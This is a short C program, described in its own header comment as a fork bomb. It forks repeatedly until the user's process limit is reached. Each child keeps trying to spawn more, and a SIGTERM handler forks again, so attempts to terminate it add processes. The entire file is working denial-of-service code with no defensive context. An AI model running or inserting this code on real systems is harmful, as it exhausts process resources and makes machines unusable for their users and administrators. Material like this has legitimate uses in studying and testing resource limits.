/* A fork bomb: as many processes as the limit of its user lets there be, each of which tries again and again to become more, and
 * is one more at SIGTERM. A byte on stdout of each that has met the limit. */
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void one_more(int number)
{
    (void)number;
    (void)fork();
}

int main(void)
{
    bool told = false;

    (void)signal(SIGTERM, one_more);
    (void)signal(SIGPIPE, SIG_IGN);
    (void)signal(SIGCHLD, SIG_IGN);
    for (;;) {
        if (fork() >= 0)
            continue;
        if (!told)
            told = write(STDOUT_FILENO, "x", 1) != 0;
        (void)nanosleep(&(struct timespec){.tv_nsec = 100000000}, NULL);
    }
}
